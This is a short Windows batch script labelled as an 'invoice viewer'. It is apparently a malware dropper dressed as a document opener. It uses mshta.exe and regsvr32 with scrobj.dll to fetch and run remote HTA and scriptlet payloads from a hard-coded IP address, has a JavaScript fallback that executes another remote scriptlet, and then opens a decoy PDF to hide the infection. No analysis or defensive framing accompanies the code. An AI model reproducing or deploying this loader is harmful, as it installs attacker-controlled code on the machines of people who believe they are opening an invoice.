@echo off
rem invoice viewer
mshta.exe http://203.0.113.9/invoice/view.hta
timeout /t 5 /nobreak >nul
regsvr32.exe /s /n /u /i:http://203.0.113.9/invoice/scr.sct scrobj.dll
if errorlevel 1 mshta.exe "javascript:a=GetObject('script:http://203.0.113.9/invoice/r.sct').Exec();close();"
start "" "%TEMP%\invoice_4471.pdf"
